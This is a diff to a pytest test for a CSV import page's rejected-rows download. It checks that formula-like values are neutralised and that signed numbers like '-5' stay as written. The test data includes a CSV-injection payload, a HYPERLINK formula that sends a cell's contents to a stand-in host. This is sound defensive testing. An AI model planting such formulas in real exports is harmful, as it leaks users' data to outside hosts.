@@ -5,6 +5,7 @@ from __future__ import annotations
 import csv
 import io
 import json
+import re
 
 import pytest
 from _import_page import import_page, map_by_hand, metrics, page_text, widget
@@ -104,19 +105,20 @@ def _rejected_download(at: AppTest, downloads: list[bytes]) -> list[dict[str, st
 
 
 def test_the_rejected_rows_download_lists_every_row_and_runs_no_formula_in_a_spreadsheet(page, downloads):
-    values = ['=HYPERLINK("http://x.example/?"&A1;"open")', "+1+2", "-3+4", "@SUM(1;2)", "55"]
+    values = ['=HYPERLINK("http://x.example/?"&A1;"open")', "+1+2", "-3+4", "@SUM(1;2)", "55", "-5"]
     text = "client_id,session_date,session_number,measure,total\nC1,2026-01-05,1,ORS,20\n" + "".join(
         f'C1,2026-01-{12 + i:02d},{i + 2},ORS,"{v.replace(chr(34), chr(34) * 2)}"\n'
         for i, v in enumerate(values)
     )
     at = _import(_upload(page, "formulas.csv", text))
-    assert metrics(at) == {"Rows read": "6", "Imported": "1", "Duplicate": "0", "Rejected": "5"}
+    assert metrics(at) == {"Rows read": "7", "Imported": "1", "Duplicate": "0", "Rejected": "6"}
     rows = _rejected_download(at, downloads)
-    assert [r["row"] for r in rows] == ["2", "3", "4", "5", "6"]
+    assert [r["row"] for r in rows] == ["2", "3", "4", "5", "6", "7"]
     for row in rows:
         for value in row.values():
-            assert not value.startswith(FORMULA_STARTS), row
+            assert not value.startswith(FORMULA_STARTS) or re.fullmatch(r"-\d+", value), row
     assert [r["value"].lstrip("'") for r in rows] == values  # the value is kept, only made inert
+    assert rows[-1]["value"] == "-5"  # a signed number is not a formula: shown as the file held it
 
 
 NOTES_AND_NAMES = (
